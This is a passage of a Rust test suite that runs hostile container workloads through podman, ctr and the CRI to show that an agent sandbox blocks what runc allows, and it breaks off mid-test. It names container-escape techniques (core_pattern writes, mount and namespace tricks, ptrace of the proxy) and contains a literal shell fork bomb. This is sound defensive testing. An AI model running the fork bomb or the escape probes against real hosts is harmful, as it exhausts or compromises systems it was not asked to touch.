//! Hostile-workload suite: what a malicious or compromised agent tool would try, run through
//! every entry point (podman rootful, podman rootless, `ctr`, the CRI as kubelet drives it),
//! each attack paired with the same command under runc (podman `--runtime runc`,
//! `io.containerd.runc.v2`, the CRI's `runc` handler) where it
//! succeeds, so every test can fail.
//!
//! The entry point is a parameter: an attack is a function of `&dyn EntryPoint`, and
//! [`hostile_tests!`] stamps one `#[test]` per attack for an entry point. A new entry point
//! implements [`EntryPoint`] and adds one `hostile_tests!` line.
//!
//! Every container gets the probe of the build under test bind-mounted over the image's
//! (`$AGENT_SANDBOX_BIN_DIR/probe`), so new probe checks need no image rebuild.
//!
//! Already proven elsewhere, and not repeated here:
//! - appending to `.bashrc` and planting git hooks in a mounted workspace, podman rootful
//!   and rootless: `podman::*_workspace_overlay_accepts_writes_that_never_reach_host_*`
//!   (here the same writes come from an install script, and through `ctr` as well);
//! - posting the image's `~/.ssh/id_rsa` to an unlisted domain: `egress::posting_the_ssh_key_*`,
//!   `egress::rootless_*_key_post_is_refused_*`, `egress::ctr_*_key_post_is_refused_*`
//!   (here: the environment, over every channel a tool could pick);
//! - a symlinked protected path resolved on the host: `podman::rootful_symlinked_protected_*`;
//! - `mount`, `unshare`, `unshare_user`, `io_uring`, `keyctl`, `ptrace` of a child: the
//!   `podman` and `ctr` suites;
//! - UDP to a loopback resolver and `getaddrinfo` failing fast (podman rootful):
//!   `egress::dns_queries_never_leave_*`.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use agent_sandbox_e2e::cri::{self, Cri, Pod};
use agent_sandbox_e2e::ctr::{self, Container, Shim};
use agent_sandbox_e2e::harness::{
    self, BUSYBOX_IMAGE, DEFAULT_TIMEOUT, Outcome, Output, PROBE, ProbeReport, TEST_UID,
    TOOLS_IMAGE, User,
};
use agent_sandbox_e2e::net::{self, COLLECTOR_HOST, COLLECTOR_IP, HttpServer, UdpEcho};
use agent_sandbox_e2e::podman::{ContainerGuard, Podman, Runtime, unique_name};
use agent_sandbox_e2e::script::{Checks, sectioned, sections};
use anyhow::{Context, ensure};
use k8s_cri::v1::NamespaceMode;

// ---------------------------------------------------------------- entry points

/// Which runtime a container runs under.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Side {
    /// agent-sandbox (our runtime, or our shim driving it).
    Sandbox,
    /// runc: the same request without the sandbox.
    Baseline,
}

/// A host directory bind-mounted into the container.
#[derive(Debug, Clone)]
pub struct Bind {
    pub host: PathBuf,
    pub container: String,
    pub read_only: bool,
}

/// One container request, the same for both sides unless a field says otherwise.
#[derive(Debug, Clone, Default)]
pub struct Job {
    pub image: &'static str,
    pub cmd: Vec<String>,
    pub env: Vec<(String, String)>,
    pub binds: Vec<Bind>,
    /// Ceiling policy file for the sandbox side (the built-in `agent` profile otherwise).
    pub policy: Option<PathBuf>,
    /// Ask for a privileged container (all capabilities, no seccomp, host devices).
    pub privileged: bool,
    /// Ask to share the host's pid namespace.
    pub host_pid: bool,
    /// Ask to share the host's network namespace.
    pub host_net: bool,
}

impl Job {
    fn new(image: &'static str, cmd: &[&str]) -> Self {
        Self {
            image,
            cmd: cmd.iter().map(|s| (*s).to_owned()).collect(),
            ..Self::default()
        }
    }

    fn probe(checks: &[&str]) -> Self {
        let mut cmd = vec![PROBE];
        cmd.extend_from_slice(checks);
        Self::new(BUSYBOX_IMAGE, &cmd)
    }

    fn sh(image: &'static str, script: &str) -> Self {
        Self::new(image, &["sh", "-c", script])
    }

    fn env(mut self, key: &str, value: impl Into<String>) -> Self {
        self.env.push((key.to_owned(), value.into()));
        self
    }

    fn bind(mut self, host: &Path, container: &str, read_only: bool) -> Self {
        self.binds.push(Bind {
            host: host.to_owned(),
            container: container.to_owned(),
            read_only,
        });
        self
    }

    /// The binds with the probe under test laid over the image's.
    fn all_binds(&self) -> Vec<Bind> {
        let mut binds = vec![Bind {
            host: harness::bin_dir().join("probe"),
            container: PROBE.to_owned(),
            read_only: true,
        }];
        binds.extend(self.binds.iter().cloned());
        binds
    }
}

/// A container started detached; stopped and removed on drop.
pub trait Running {
    /// The id the runtime knows the container by (the proxy's command line names it).
    fn id(&self) -> &str;
    /// The container's init as a host pid.
    fn init_pid(&self) -> anyhow::Result<u32>;
    /// Runs `cmd` in the container (exec), to completion.
    fn exec(&self, env: &[(String, String)], cmd: &[&str]) -> anyhow::Result<Output>;
}

/// A way of asking for containers: podman rootful/rootless, ctr, CRI.
pub trait EntryPoint {
    fn name(&self) -> String;
    /// The host user that owns the entry point's files (bind sources must be theirs).
    fn user(&self) -> User;
    /// Fails, naming the fix, unless this entry point can run containers here.
    fn require(&self) -> anyhow::Result<()>;
    /// Runs `job` to completion in a fresh container and removes it.
    fn run(&self, side: Side, job: &Job) -> anyhow::Result<Output>;
    /// Starts `job` detached.
    fn start(&self, side: Side, job: &Job) -> anyhow::Result<Box<dyn Running>>;
    /// The same as `run`, with descriptor 3 of the caller passed into the container, if this
    /// entry point has a way to pass descriptors (`podman --preserve-fds`).
    fn run_passing_fd3(&self, side: Side, job: &Job) -> anyhow::Result<Option<Output>>;
}

// ---- podman

struct PodmanEntry {
    user: User,
}

impl PodmanEntry {
    fn podman(&self, side: Side) -> Podman {
        let runtime = match side {
            Side::Sandbox => Runtime::AgentSandbox,
            Side::Baseline => Runtime::Runc,
        };
        Podman::new(self.user, runtime)
    }

    /// Global flags, then `run` flags, for `job`.
    fn args(&self, side: Side, job: &Job, run: &[&str]) -> Vec<String> {
        let mut a: Vec<String> = Vec::new();
        if let (Side::Sandbox, Some(p)) = (side, &job.policy) {
            a.push("--runtime-flag".into());
            a.push(format!("policy={}", p.display()));
        }
        a.extend(run.iter().map(|s| (*s).to_owned()));
        for b in job.all_binds() {
            a.push("-v".into());
            let ro = if b.read_only { ":ro" } else { "" };
            a.push(format!("{}:{}{ro}", b.host.display(), b.container));
        }
        for (k, v) in &job.env {
            a.push("-e".into());
            a.push(format!("{k}={v}"));
        }
        if job.privileged {
            a.push("--privileged".into());
        }
        if job.host_pid {
            a.extend(["--pid".into(), "host".into()]);
        }
        if job.host_net {
            a.extend(["--network".into(), "host".into()]);
        }
        a.push(job.image.into());
        a.extend(job.cmd.iter().cloned());
        a
    }
}

struct PodmanRunning {
    guard: ContainerGuard,
    id: String,
}

impl Running for PodmanRunning {
    fn id(&self) -> &str {
        &self.id
    }

    fn init_pid(&self) -> anyhow::Result<u32> {
        let out =
            self.guard
                .podman
                .run_ok(&["inspect", "-f", "{{.State.Pid}}", &self.guard.name])?;
        out.stdout
            .trim()
            .parse()
            .with_context(|| format!("no pid from podman inspect\n{out}"))
    }

    fn exec(&self, env: &[(String, String)], cmd: &[&str]) -> anyhow::Result<Output> {
        let mut args: Vec<String> = vec!["exec".into()];
        for (k, v) in env {
            args.push("-e".into());
            args.push(format!("{k}={v}"));
        }
        args.push(self.guard.name.clone());
        args.extend(cmd.iter().map(|s| (*s).to_owned()));
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        self.guard.podman.run(&refs)
    }
}

impl EntryPoint for PodmanEntry {
    fn name(&self) -> String {
        format!("podman {}", self.user)
    }

    fn user(&self) -> User {
        self.user
    }

    fn require(&self) -> anyhow::Result<()> {
        harness::require_podman_image(self.user, BUSYBOX_IMAGE)?;
        harness::require_podman_image(self.user, TOOLS_IMAGE)?;
        harness::require_file(harness::runtime_bin())?;
        harness::require_file(harness::bin_dir().join("probe"))
    }

    fn run(&self, side: Side, job: &Job) -> anyhow::Result<Output> {
        let args = self.args(side, job, &["run", "--rm"]);
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        self.podman(side).run(&refs)
    }

    fn start(&self, side: Side, job: &Job) -> anyhow::Result<Box<dyn Running>> {
        let podman = self.podman(side);
        let name = unique_name("hostile");
        let guard = ContainerGuard {
            podman,
            name: name.clone(),
        };
        let args = self.args(side, job, &["run", "-d", "--name", &name]);
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        podman.run_ok(&refs)?;
        let id = podman
            .run_ok(&["inspect", "-f", "{{.Id}}", &name])?
            .stdout
            .trim()
            .to_owned();
        Ok(Box::new(PodmanRunning { guard, id }))
    }

    fn run_passing_fd3(&self, side: Side, job: &Job) -> anyhow::Result<Option<Output>> {
        let args = self.args(side, job, &["run", "--rm", "--preserve-fds", "1"]);
        let inner = self.podman(side).command(&[])?;
        // `exec 3<...` in a shell in front of the podman command line of `command`.
        let mut words: Vec<String> = vec![inner.get_program().to_string_lossy().into_owned()];
        words.extend(inner.get_args().map(|a| a.to_string_lossy().into_owned()));
        words.extend(args);
        let quoted: Vec<String> = words.iter().map(|w| shell_quote(w)).collect();
        let script = format!("exec 3</etc/hostname; exec {}", quoted.join(" "));
        let mut cmd = Command::new("sh");
        cmd.args(["-c", &script]).current_dir("/");
        harness::run(&mut cmd, DEFAULT_TIMEOUT).map(Some)
    }
}

fn shell_quote(word: &str) -> String {
    format!("'{}'", word.replace('\'', "'\\''"))
}

// ---- ctr

struct CtrEntry;

impl CtrEntry {
    fn shim(side: Side) -> Shim {
        match side {
            Side::Sandbox => Shim::AgentSandbox,
            Side::Baseline => Shim::RuncV2,
        }
    }

    /// `ctr run` flags for `job` (before the image); the runtime config file, if any, lives
    /// in `dir`.
    fn args(side: Side, job: &Job, dir: &Path) -> anyhow::Result<Vec<String>> {
        let mut a: Vec<String> = Vec::new();
        if let (Side::Sandbox, Some(p)) = (side, &job.policy) {
            let config = dir.join("runtime-config.toml");
            fs::write(&config, format!("Policy = {:?}\n", p.display().to_string()))?;
            a.push("--runtime-config-path".into());
            a.push(config.display().to_string());
        }
        for b in job.all_binds() {
            let mode = if b.read_only { "ro" } else { "rw" };
            a.push("--mount".into());
            a.push(format!(
                "type=bind,src={},dst={},options=rbind:{mode}",
                b.host.display(),
                b.container
            ));
        }
        for (k, v) in &job.env {
            a.push("--env".into());
            a.push(format!("{k}={v}"));
        }
        if job.privileged {
            a.push("--privileged".into());
        }
        if job.host_pid {
            // The pid namespace this test runs in (the host's, as far as the test can tell).
            a.push("--with-ns".into());
            a.push(format!("pid:/proc/{}/ns/pid", std::process::id()));
        }
        if job.host_net {
            a.push("--net-host".into());
        }
        Ok(a)
    }
}

struct CtrRunning {
    container: Container,
    _dir: tempfile::TempDir,
}

impl Running for CtrRunning {
    fn id(&self) -> &str {
        &self.container.id
    }

    fn init_pid(&self) -> anyhow::Result<u32> {
        self.container
            .wait_status("RUNNING", Duration::from_secs(30))
    }

    fn exec(&self, env: &[(String, String)], cmd: &[&str]) -> anyhow::Result<Output> {
        static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let exec_id = format!(
            "hx-{}-{}",
            std::process::id(),
            NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
        );
        // `ctr task exec` has no --env: the image's env(1) sets the variables.
        let mut full: Vec<String> = Vec::new();
        if !env.is_empty() {
            full.push("env".into());
            full.extend(env.iter().map(|(k, v)| format!("{k}={v}")));
        }
        full.extend(cmd.iter().map(|s| (*s).to_owned()));
        let rest: Vec<&str> = full.iter().map(String::as_str).collect();
        self.container
            .task_cmd(&["exec", "--exec-id", &exec_id], &rest)
    }
}

impl EntryPoint for CtrEntry {
    fn name(&self) -> String {
        "ctr".to_owned()
    }

    fn user(&self) -> User {
        User::Root
    }

    fn require(&self) -> anyhow::Result<()> {
        ctr::require_containerd()?;
        harness::require_file(harness::bin_dir().join("probe"))
    }

    fn run(&self, side: Side, job: &Job) -> anyhow::Result<Output> {
        let dir = tempfile::tempdir()?;
        let args = Self::args(side, job, dir.path())?;
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let cmd: Vec<&str> = job.cmd.iter().map(String::as_str).collect();
        ctr::run_rm(
            Self::shim(side),
            &refs,
            job.image,
            &ctr::unique_id("hostile"),
            &cmd,
        )
    }

    fn start(&self, side: Side, job: &Job) -> anyhow::Result<Box<dyn Running>> {
        let dir = tempfile::tempdir()?;
        let args = Self::args(side, job, dir.path())?;
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let cmd: Vec<&str> = job.cmd.iter().map(String::as_str).collect();
        let container = Container::start_detached(
            Self::shim(side),
            &refs,
            job.image,
            &ctr::unique_id("hostile"),
            &cmd,
        )?;
        container.wait_status("RUNNING", Duration::from_secs(30))?;
        Ok(Box::new(CtrRunning {
            container,
            _dir: dir,
        }))
    }

    fn run_passing_fd3(&self, _side: Side, _job: &Job) -> anyhow::Result<Option<Output>> {
        // ctr has no way to pass a descriptor into a task.
        Ok(None)
    }
}

// ---- CRI (what kubelet does with a RuntimeClass)

/// One CRI client for every test of the suite (it owns a tokio runtime).
fn shared_cri() -> anyhow::Result<&'static Cri> {
    static CRI: std::sync::OnceLock<Cri> = std::sync::OnceLock::new();
    if let Some(cri) = CRI.get() {
        return Ok(cri);
    }
    let cri = Cri::connect()?;
    Ok(CRI.get_or_init(|| cri))
}

/// Pods through containerd's CRI socket, as kubelet runs them: RunPodSandbox, then
/// CreateContainer and StartContainer, with handler `agent-sandbox` (the build under test
/// with the built-in `agent` profile as ceiling) against the `runc` handler. A job's own
/// policy becomes the pod annotations that narrow the ceiling to it (CRI has no other way
/// for a pod to ask for a policy); `privileged`, `host_pid` and `host_net` become the pod's
/// and the container's security context, as kubelet writes them.
struct CriEntry;

/// The container name every CRI job gets (its log is `NAME.log` in the pod's log directory).
const CRI_CONTAINER: &str = "job";

impl CriEntry {
    fn handler(side: Side) -> anyhow::Result<String> {
        match side {
            Side::Sandbox => cri::sandbox_handler(),
            Side::Baseline => Ok(cri::RUNC_HANDLER.to_owned()),
        }
    }

    /// The annotations that narrow the handler's ceiling to `policy`'s network lists.
    fn narrowing(policy: &Path) -> anyhow::Result<Vec<(String, String)>> {
        let text = fs::read_to_string(policy)
            .with_context(|| format!("cannot read {}", policy.display()))?;
        let doc: toml::Table =
            toml::from_str(&text).with_context(|| format!("cannot parse {}", policy.display()))?;
        let list = |key: &str| -> Vec<String> {
            doc.get("network")
                .and_then(|n| n.get(key))
                .and_then(toml::Value::as_array)
                .into_iter()
                .flatten()
                .filter_map(|v| v.as_str().map(str::to_owned))
                .collect()
        };
        let mut annotations = vec![(
            "io.agent.sandbox.network.allow".to_owned(),
            list("allow").join(","),
        )];
        let deny = list("deny");
        if !deny.is_empty() {
            annotations.push(("io.agent.sandbox.network.deny".to_owned(), deny.join(",")));
        }
        Ok(annotations)
    }

    fn configs(
        side: Side,
        job: &Job,
    ) -> anyhow::Result<(k8s_cri::v1::PodSandboxConfig, k8s_cri::v1::ContainerConfig)> {
        let annotations = match (side, &job.policy) {
            (Side::Sandbox, Some(p)) => Self::narrowing(p)?,
            _ => Vec::new(),
        };
        let refs: Vec<(&str, &str)> = annotations
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let mut pod = cri::pod_config("hostile", &refs);
        let cmd: Vec<&str> = job.cmd.iter().map(String::as_str).collect();
        let env: Vec<(&str, &str)> = job
            .env
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let mut container = cri::container_config(CRI_CONTAINER, job.image, &cmd, &env);
        container.mounts = job
            .all_binds()
            .into_iter()
            .map(|b| k8s_cri::v1::Mount {
                container_path: b.container,
                host_path: b.host.display().to_string(),
                readonly: b.read_only,
                ..Default::default()
            })
            .collect();
        if job.host_net {
            // kubelet leaves the hostname to the node's for hostNetwork pods.
            pod.hostname.clear();
        }
        let node = NamespaceMode::Node as i32;
        if let Some(sc) = pod.linux.as_mut().and_then(|l| l.security_context.as_mut()) {
            sc.privileged = job.privileged;
            let ns = sc.namespace_options.get_or_insert_with(Default::default);
            if job.host_pid {
                ns.pid = node;
            }
            if job.host_net {
                ns.network = node;
            }
        }
        if let Some(sc) = container
            .linux
            .as_mut()
            .and_then(|l| l.security_context.as_mut())
        {
            sc.privileged = job.privileged;
            // kubelet copies the pod's namespace modes into every container's request.
            sc.namespace_options = pod
                .linux
                .as_ref()
                .and_then(|l| l.security_context.as_ref())
                .and_then(|s| s.namespace_options.clone());
        }
        Ok((pod, container))
    }

    /// Runs the pod and starts the job's container; a refusal by the runtime (at any of the
    /// three calls) is `Ok(Err(reason))`.
    fn launch(side: Side, job: &Job) -> anyhow::Result<Result<(Pod<'static>, String), String>> {
        let cri = shared_cri()?;
        let (pod_config, config) = Self::configs(side, job)?;
        let pod = match Pod::run(cri, pod_config, &Self::handler(side)?) {
            Ok(pod) => pod,
            Err(e) if cri::status_of(&e).is_some() => return Ok(Err(format!("{e:#}"))),
            Err(e) => return Err(e),
        };
        match pod.start(&config) {
            Ok(id) => Ok(Ok((pod, id))),
            Err(e) if cri::status_of(&e).is_some() => Ok(Err(format!("{e:#}"))),
            Err(e) => Err(e),
        }
    }
}

/// The container's CRI log (`TIMESTAMP STREAM P|F TEXT`, `P` a partial line continued by the
/// next entry of the same stream) as (stdout, stderr).
fn cri_log_streams(path: &Path) -> anyhow::Result<(String, String)> {
    let text =
        fs::read_to_string(path).with_context(|| format!("cannot read {}", path.display()))?;
    let (mut stdout, mut stderr) = (String::new(), String::new());
    for line in text.lines() {
        let mut parts = line.splitn(4, ' ');
        let (_, stream, tag) = (parts.next(), parts.next(), parts.next());
        let message = parts.next().unwrap_or("");
        let out = match stream {
            Some("stdout") => &mut stdout,
            Some("stderr") => &mut stderr,
            _ => anyhow::bail!("{}: not a CRI log line: {line:?}", path.display()),
        };
        out.push_str(message);
        if tag != Some("P") {
            out.push('\n');
        }
    }
    Ok((stdout, stderr))
}

struct CriRunning {
    pod: Pod<'static>,
    container: String,
}

impl Running for CriRunning {
    /// The pod's id: the runtime knows the pod's sandbox (pause) container by it, and the
    /// pod's one egress proxy names it.
    fn id(&self) -> &str {
        &self.pod.id
    }

    fn init_pid(&self) -> anyhow::Result<u32> {
        self.pod.cri.container_pid(&self.container)
    }

    fn exec(&self, env: &[(String, String)], cmd: &[&str]) -> anyhow::Result<Output> {
        // ExecSync has no environment: the image's env(1) sets the variables.
        let mut full: Vec<String> = Vec::new();
        if !env.is_empty() {
            full.push("env".into());
            full.extend(env.iter().map(|(k, v)| format!("{k}={v}")));
        }
        full.extend(cmd.iter().map(|s| (*s).to_owned()));
        let refs: Vec<&str> = full.iter().map(String::as_str).collect();
        Ok(self
            .pod
            .cri
            .exec_sync(&self.container, &refs, 120)?
            .output())
    }
}

impl EntryPoint for CriEntry {
    fn name(&self) -> String {
        "CRI".to_owned()
    }

    fn user(&self) -> User {
        User::Root
    }

    fn require(&self) -> anyhow::Result<()> {
        let cri = shared_cri()?;
        for image in [cri::PAUSE_IMAGE, BUSYBOX_IMAGE, TOOLS_IMAGE] {
            cri.require_image(image)?;
        }
        cri::sandbox_handler()?;
        harness::require_file(harness::bin_dir().join("probe"))
    }

    fn run(&self, side: Side, job: &Job) -> anyhow::Result<Output> {
        let started = Instant::now();
        let command = format!("{} (CRI, {side:?})", job.cmd.join(" "));
        let (pod, id) = match Self::launch(side, job)? {
            Ok(launched) => launched,
            Err(reason) => {
                return Ok(Output {
                    command,
                    code: Some(128),
                    signal: None,
                    stdout: String::new(),
                    stderr: reason,
                    elapsed: started.elapsed(),
                });
            }
        };
        let deadline = Instant::now() + Duration::from_secs(180);
        let status = loop {
            let status = pod.cri.container_status(&id)?;
            if status.state == k8s_cri::v1::ContainerState::ContainerExited as i32 {
                break status;
            }
            ensure!(
                Instant::now() < deadline,
                "{command}: container {id} still running after 180 s: {status:?}"
            );
            std::thread::sleep(Duration::from_millis(100));
        };
        let log = Path::new(&pod.config.log_directory).join(format!("{CRI_CONTAINER}.log"));
        let (stdout, mut stderr) = cri_log_streams(&log)?;
        if !status.message.is_empty() {
            stderr.push_str(&status.message);
        }
        pod.remove()?;
        Ok(Output {
            command,
            code: Some(status.exit_code),
            signal: None,
            stdout,
            stderr,
            elapsed: started.elapsed(),
        })
    }

    fn start(&self, side: Side, job: &Job) -> anyhow::Result<Box<dyn Running>> {
        match Self::launch(side, job)? {
            Ok((pod, container)) => Ok(Box::new(CriRunning { pod, container })),
            Err(reason) => anyhow::bail!("the CRI refused {:?} under {side:?}: {reason}", job.cmd),
        }
    }

    fn run_passing_fd3(&self, _side: Side, _job: &Job) -> anyhow::Result<Option<Output>> {
        // The CRI has no way to pass a descriptor into a container.
        Ok(None)
    }
}

// ---------------------------------------------------------------- helpers

fn probe_report(e: &dyn EntryPoint, side: Side, job: &Job) -> anyhow::Result<ProbeReport> {
    let out = e.run(side, job)?;
    ensure!(
        out.success(),
        "probe under {side:?} through {} failed\n{out}",
        e.name()
    );
    ProbeReport::parse(out)
}

/// A directory `e`'s user owns (mode 0755), removed on drop.
fn host_dir(e: &dyn EntryPoint) -> anyhow::Result<tempfile::TempDir> {
    let dir = harness::temp_dir_for(e.user())?;
    fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755))?;
    Ok(dir)
}

/// Gives `path` (and everything under it) to `e`'s user.
fn give(e: &dyn EntryPoint, path: &Path) -> anyhow::Result<()> {
    if e.user() == User::Rootless {
        let out = harness::run_ok(
            Command::new("chown")
                .args(["-R", &format!("{TEST_UID}:{TEST_UID}")])
                .arg(path),
            DEFAULT_TIMEOUT,
        )?;
        drop(out);
    }
    Ok(())
}

/// The checks of `checks` that `e`'s runc baseline can show as allowed: rootless runc holds
/// capabilities only over its own user namespace, so what needs the host's (writing
/// `/proc/sys`, `/sys`, device nodes, BPF, file handles, a nested user namespace) stays
/// blocked there even with `--privileged`. Those are shown by the rootful entry points.
fn baseline_can_show<'a>(e: &dyn EntryPoint, checks: &[&'a str]) -> Vec<&'a str> {
    const NEEDS_HOST_ROOT: &[&str] = &[
        "proc_sys_write",
        "sysfs_write",
        "mknod",
        "bpf",
        "open_by_handle_at",
        "netlink_non_route",
        "userns_mount",
    ];
    checks
        .iter()
        .copied()
        .filter(|c| e.user() == User::Root || !NEEDS_HOST_ROOT.contains(c))
        .collect()
}

/// The probe's `checks` blocked in the sandbox (default request) and allowed under a
/// privileged runc container, which opens the whole kernel attack surface. A rootful one also
/// gets the host's network namespace: containerd's CRI mounts `/sys` writable only for a
/// privileged container of a hostNetwork pod. (Rootless runc holds no capability over the
/// host's network namespace, so there it keeps a namespace of its own.)
fn blocked_unlike_privileged_runc(e: &dyn EntryPoint, checks: &[&str]) -> anyhow::Result<()> {
    e.require()?;
    let mut base_job = Job::probe(checks);
    base_job.privileged = true;
    base_job.host_net = e.user() == User::Root;
    let base = probe_report(e, Side::Baseline, &base_job)?;
    base.expect_allowed(&baseline_can_show(e, checks))
        .with_context(|| format!("baseline through {}: runc must allow these", e.name()))?;
    let ours = probe_report(e, Side::Sandbox, &Job::probe(checks))?;
    ours.expect_blocked(checks)
}

// ---------------------------------------------------------------- attacks

/// Writes to `/proc/sys` and `/sys` (`core_pattern` is a host-root code execution path).
fn proc_sys_and_sysfs_writes(e: &dyn EntryPoint) -> anyhow::Result<()> {
    blocked_unlike_privileged_runc(e, &["proc_sys_write", "sysfs_write"])
}

/// Namespace and mount tricks: `mount --bind`, `pivot_root` in a private mount namespace,
/// `unshare -U` then mount as the new namespace's root, `setns`, `chroot`.
fn namespace_and_mount_tricks(e: &dyn EntryPoint) -> anyhow::Result<()> {
    blocked_unlike_privileged_runc(
        e,
        &[
            "bind_mount",
            "pivot_root",
            "userns_mount",
            "unshare_mount",
            "setns",
            "chroot",
        ],
    )
}

/// Kernel interfaces a container escape usually starts from.
fn kernel_interfaces(e: &dyn EntryPoint) -> anyhow::Result<()> {
    blocked_unlike_privileged_runc(
        e,
        &[
            "mknod",
            "bpf",
            "open_by_handle_at",
            "af_packet",
            "netlink_non_route",
            "personality",
        ],
    )
}

/// Planting an executable in a `$PATH` directory (to shadow `git` or `sh` for the next
/// command): runc's writable rootfs takes it, the sandbox's read-only one does not.
fn path_planting(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    let job = Job::probe(&["path_plant"]);
    probe_report(e, Side::Baseline, &job)?.expect_allowed(&["path_plant"])?;
    probe_report(e, Side::Sandbox, &job)?.expect_blocked(&["path_plant"])?;
    // Nor in a process exec'd later.
    let running = e.start(Side::Sandbox, &Job::new(BUSYBOX_IMAGE, &["sleep", "300"]))?;
    let out = running.exec(&[], &[PROBE, "path_plant"])?;
    ProbeReport::parse(out)?.expect_blocked(&["path_plant"])
}

/// Descriptors leaked by the runtime (state files, audit log, memfd copy, sockets) into the
/// init and into exec'd processes. The detector is shown to work first: a descriptor a shell
/// leaves open is reported under both runtimes.
fn fd_leaks(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    let planted = Job::sh(
        BUSYBOX_IMAGE,
        &format!("exec 7</dev/null; exec {PROBE} fd_leak"),
    );
    for side in [Side::Baseline, Side::Sandbox] {
        probe_report(e, side, &planted)?
            .expect_allowed(&["fd_leak"])
            .with_context(|| format!("the detector must see fd 7 under {side:?}"))?;
    }
    let job = Job::probe(&["fd_leak"]);
    probe_report(e, Side::Sandbox, &job)?.expect_blocked(&["fd_leak"])?;
    let running = e.start(Side::Sandbox, &Job::new(BUSYBOX_IMAGE, &["sleep", "300"]))?;
    ProbeReport::parse(running.exec(&[], &[PROBE, "fd_leak"])?)?
        .expect_blocked(&["fd_leak"])
        .context("exec'd process")?;
    // A descriptor the caller passes on purpose arrives, and nothing else with it.
    if let Some(base) = e.run_passing_fd3(Side::Baseline, &job)? {
        ProbeReport::parse(base)?
            .expect_allowed(&["fd_leak"])
            .context("runc must pass fd 3 (--preserve-fds 1)")?;
        let passed = job.clone().env("PROBE_FDS_PASSED", "3");
        let ours = e
            .run_passing_fd3(Side::Sandbox, &passed)?
            .context("no output")?;
        ProbeReport::parse(ours)?.expect_blocked(&["fd_leak"])?;
    }
    Ok(())
}

/// The egress proxy lives outside the sandbox: no process of the sandbox (init or exec'd)
/// can see it, let alone trace it, even when the request asks for the host's pid
/// namespace. A privileged runc container in the host's pid namespace finds the same proxy
/// and seizes it.
fn ptrace_of_the_proxy(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    let running = e.start(Side::Sandbox, &Job::new(BUSYBOX_IMAGE, &["sleep", "300"]))?;
    let id = running.id().to_owned();
    let proxies = net::proxy_pids(&id);
    ensure!(
        proxies.len() == 1,
        "expected one proxy for {id} (agent profile: network = proxy), found {proxies:?}"
    );
    let env = vec![("PROBE_PROXY_ID".to_owned(), id.clone())];
    let inside = ProbeReport::parse(running.exec(&env, &[PROBE, "ptrace_proxy", "ptrace"])?)?;
    inside.expect_blocked(&["ptrace_proxy"])?;
    let detail = &inside.checks["ptrace_proxy"].detail;
    ensure!(
        detail.starts_with("no agent-sandbox proxy visible"),
        "the proxy is visible from inside the sandbox: {detail}\n{inside}"
    );
    // Asking for the host's pid namespace gets either a refusal or a namespace of its own.
    let mut host_pid = Job::probe(&["ptrace_proxy"]).env("PROBE_PROXY_ID", id.clone());
    host_pid.host_pid = true;
    let out = e.run(Side::Sandbox, &host_pid)?;
    if out.success() {
        let report = ProbeReport::parse(out)?;
        report.expect_blocked(&["ptrace_proxy"])?;
        ensure!(
            report.checks["ptrace_proxy"]
                .detail
                .starts_with("no agent-sandbox proxy visible"),
            "with --pid host the sandbox sees the proxy\n{report}"
        );
    } else {
        ensure!(
            !out.stdout.contains("\"check\""),
            "the probe ran although the create failed\n{out}"
        );
    }
    // Baseline: privileged runc in the host's pid namespace.
    let mut base = host_pid.clone();
    base.privileged = true;
    let report = probe_report(e, Side::Baseline, &base)?;
    let detail = &report
        .checks
        .get("ptrace_proxy")
        .context("not reported")?
        .detail;
    if e.user() == User::Root {
        report.expect_allowed(&["ptrace_proxy"])?;
    } else {
        // Rootless runc sees the proxy but cannot trace a process of host root.
        ensure!(
            detail.starts_with("proxy pid") || detail.starts_with("seized"),
            "rootless runc with --pid host should see the proxy\n{report}"
        );
    }
    // The probe's tracer has exited: the proxy must still serve its sandbox.
    ensure!(
        net::proxy_pids(&id) == proxies,
        "the proxy changed after the baseline traced it: {:?}",
        net::proxy_pids(&id)
    );
    Ok(())
}

fn read_trim(path: &Path) -> anyhow::Result<String> {
    Ok(fs::read_to_string(path)
        .with_context(|| format!("cannot read {}", path.display()))?
        .trim()
        .to_owned())
}

/// A bounded fork bomb (2,000 sleeping children) completes under runc; in the sandbox the
/// policy's pids limit stops it. A real shell fork bomb then runs in a sandbox for a few
/// seconds: its cgroup stays at the limit, the kernel counts the refusals, the host keeps
/// forking, and removing the sandbox leaves no process behind.
fn fork_bomb(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    let job = Job::probe(&["fork_bomb"]).env("PROBE_FORK_TARGET", "2000");
    probe_report(e, Side::Baseline, &job)?.expect_allowed(&["fork_bomb"])?;
    probe_report(e, Side::Sandbox, &job)?.expect_blocked(&["fork_bomb"])?;

    let bomb = Job::sh(BUSYBOX_IMAGE, "b() { b | b & }; b; sleep 300");
    let running = e.start(Side::Sandbox, &bomb)?;
    let init = running.init_pid()?;
    let cgroup = harness::pids_cgroup(init)?;
    let max: u64 = read_trim(&cgroup.join("pids.max"))?
        .parse()
        .with_context(|| format!("pids.max of {} is not a number", cgroup.display()))?;
    ensure!(max <= 1024, "pids.max {max} is above the policy's 1024");
    std::thread::sleep(Duration::from_secs(3));
    let start = Instant::now();
    for _ in 0..20 {
        harness::run_ok(&mut Command::new("true"), Duration::from_secs(10))
            .context("the host cannot fork while the bomb runs")?;
    }
    let host_fork = start.elapsed();
    let current: u64 = read_trim(&cgroup.join("pids.current"))?.parse()?;
    let events = read_trim(&cgroup.join("pids.events")).unwrap_or_default();
    ensure!(
        current <= max,
        "pids.current {current} above pids.max {max}"
    );
    ensure!(
